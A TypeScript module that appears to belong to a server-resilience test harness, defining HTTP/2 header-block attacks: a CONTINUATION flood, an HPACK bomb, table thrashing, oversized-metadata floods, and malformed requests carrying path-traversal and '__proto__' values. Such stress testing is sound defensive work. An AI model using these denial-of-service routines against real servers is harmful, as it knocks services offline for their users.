/** Field blocks that are large, endless, or dear to decode, and requests that are wrong. */

import {
  type Field,
  fieldBlock,
  references,
  requestBlock,
  requestFields,
  tableSize,
} from "../wire/field-block.ts";
import { Flag, type FrameBatch, FrameType, Setting } from "../wire/frames.ts";
import { emptyMessage } from "../wire/messages.ts";
import { type Attack, afterSettings, type Peer } from "./attack.ts";

const { END_HEADERS, END_STREAM } = Flag;
const request = requestBlock("Echo");
/** `:method: POST` of the static table, in one byte. */
const indexedField = Buffer.from([0x83]);
const frameBytes = 16_384;
/** The dynamic table's newest entry. */
const newestEntry = 62;

/** Writes a block as HEADERS and as many CONTINUATION frames as it takes. */
function writeLong(batch: FrameBatch, id: number, block: Buffer, flags: number): void {
  const first = block.subarray(0, frameBytes);
  const isWhole = block.length <= frameBytes;
  batch.headers(id, first, isWhole ? flags | END_HEADERS : flags);
  for (let at = frameBytes; at < block.length; at += frameBytes) {
    const isLast = at + frameBytes >= block.length;
    const piece = block.subarray(at, at + frameBytes);
    batch.frame(FrameType.CONTINUATION, isLast ? END_HEADERS : 0, id, piece);
  }
}

const metadata140KB = Array.from({ length: 35 }, (_, at): Field => [`m-${at}`, "x".repeat(4000)]);
const oversized = fieldBlock(requestFields("Echo", ...metadata140KB));

/** One call with 140 KB of metadata and one without, which must get its response. */
function accident(peer: Peer) {
  let awaited = 0;
  let unanswered = 0;
  return {
    write(batch: FrameBatch) {
      if (awaited !== 0 && ++unanswered < 25) return;
      if (awaited !== 0) peer.note("an honest call beside it had no response");
      unanswered = 0;
      const large = peer.openStream();
      writeLong(batch, large, oversized, END_STREAM);
      awaited = peer.openStream();
      if (!peer.takeWindow(awaited, emptyMessage.length)) return;
      batch.headers(awaited, request, END_HEADERS);
      batch.data(awaited, emptyMessage, END_STREAM);
    },
    onFrame({ flags, streamId }: { flags: number; streamId: number }) {
      if (streamId !== awaited || awaited === 0 || (flags & END_STREAM) === 0) return;
      peer.closeStream(awaited);
      awaited = 0;
    },
  };
}

const notABase64 = "*".repeat(40);
const wrong: readonly Buffer[] = [
  fieldBlock(requestFields("Echo").filter(([name]) => name !== ":path")),
  fieldBlock(requestFields("Echo").filter(([name]) => name !== "content-type")),
  fieldBlock(requestFields("Echo").filter(([name]) => name !== ":authority")),
  fieldBlock(
    requestFields("Echo").map(([name, value]): Field => [name, name === ":path" ? "" : value]),
  ),
  fieldBlock(
    requestFields("Echo").map(([name, value]): Field => [name, name === ":path" ? "*" : value]),
  ),
  fieldBlock(
    requestFields("Echo").map(
      ([name, value]): Field => [name, name === ":path" ? "http://[::1" : value],
    ),
  ),
  fieldBlock(
    requestFields("Echo").map(
      ([name, value]): Field => [name, name === ":authority" ? "[" : value],
    ),
  ),
  fieldBlock(
    requestFields("Echo").map(
      ([name, value]): Field => [name, name === ":method" ? "CONNECT" : value],
    ),
  ),
  fieldBlock(
    requestFields("Echo").map(([name, value]): Field => [name, name === ":method" ? "GET" : value]),
  ),
  fieldBlock(
    requestFields("Echo").map(
      ([name, value]): Field => [name, name === "content-type" ? "text/html" : value],
    ),
  ),
  requestBlock("Missing"),
  requestBlock("Echo/../../Echo"),
  requestBlock("Echo", ["grpc-timeout", "soon"]),
  requestBlock("Echo", ["grpc-timeout", "99999999999S"]),
  requestBlock("Echo", ["grpc-encoding", "constructor"]),
  requestBlock("Echo", ["grpc-encoding", "__proto__"]),
  requestBlock("Echo", ["data-bin", notABase64]),
  requestBlock("Echo", ["grpc-accept-encoding", ",,,,"]),
  requestBlock("Echo", ["content-length", "-1"]),
  requestBlock("Echo", [":protocol", "websocket"]),
];

/** A block that fills the dynamic table with new entries, after emptying it. */
function thrashing(round: number): Buffer {
  const fields = Array.from(
    { length: 60 },
    (_, at): Field => [`t-${at}-${round}`, `${round}`.padEnd(20, "x")],
  );
  return Buffer.concat([tableSize(0), tableSize(4096), request, fieldBlock(fields, "indexed")]);
}

const thrash = Array.from({ length: 64 }, (_, round) => thrashing(round));

export const headerBlocks: readonly Attack[] = [
  {
    name: "continuation",
    sends: "CONTINUATION of one byte or none, without end",
    known: "CVE-2024-27316",
    ignoresPings: true,
    create: (peer) => {
      const id = peer.openStream();
      return afterSettings({
        begin: (batch) => batch.headers(id, request, 0),
        write(batch) {
          for (let index = 0; index < 4000; index++) {
            const bytes = index % 5 === 0 ? 1 : 0;
            batch.frame(FrameType.CONTINUATION, 0, id, indexedField.subarray(0, bytes));
          }
        },
      });
    },
  },
  {
    name: "hpack-bomb",
    sends: "blocks of 12,000 references to an entry of 3.9 KB",
    known: "CVE-2016-6581",
    create: (peer) => {
      const bomb = Buffer.concat([request, references(newestEntry, 12_000)]);
      return {
        begin(batch) {
          const entry = fieldBlock([["bomb", "x".repeat(3900)]], "indexed");
          batch.headers(
            peer.openStream(),
            Buffer.concat([request, entry]),
            END_HEADERS | END_STREAM,
          );
        },
        write(batch) {
          for (let index = 0; index < 6; index++) {
            batch.headers(peer.openStream(), bomb, END_HEADERS | END_STREAM);
          }
        },
      };
    },
  },
  {
    name: "hpack-thrash",
    sends: "requests that empty the dynamic table and fill it again with 60 entries",
    settings: [[Setting.HEADER_TABLE_SIZE, 0]],
    heldBy: "turnShare",
    create: (peer) => {
      let round = 0;
      return {
        write(batch) {
          for (let index = 0; index < 20; index++) {
            batch.headers(
              peer.openStream(),
              thrash[round++ % thrash.length] ?? request,
              END_HEADERS | END_STREAM,
            );
          }
        },
      };
    },
  },
  {
    name: "oversized-headers",
    sends: "requests with 140 KB of metadata, as fast as it goes",
    create: (peer) => ({
      write: (batch) => writeLong(batch, peer.openStream(), oversized, END_STREAM),
    }),
  },
  {
    name: "oversized-metadata",
    sends: "one call with 140 KB of metadata beside an honest one, 5 times a second",
    mustSurvive: true,
    pauseMs: 200,
    create: accident,
  },
  {
    name: "malformed-requests",
    sends: "requests that are wrong in 20 ways",
    known: "CVE-2026-48068",
    create: (peer) => {
      let at = 0;
      return {
        write(batch) {
          for (let index = 0; index < 100; index++) {
            const id = peer.openStream();
            const block = wrong[at++ % wrong.length] ?? request;
            batch.headers(id, block, at % 2 === 0 ? END_HEADERS | END_STREAM : END_HEADERS);
            if (at % 2 === 1) batch.word(FrameType.RST_STREAM, id, 8);
          }
        },
      };
    },
  },
];
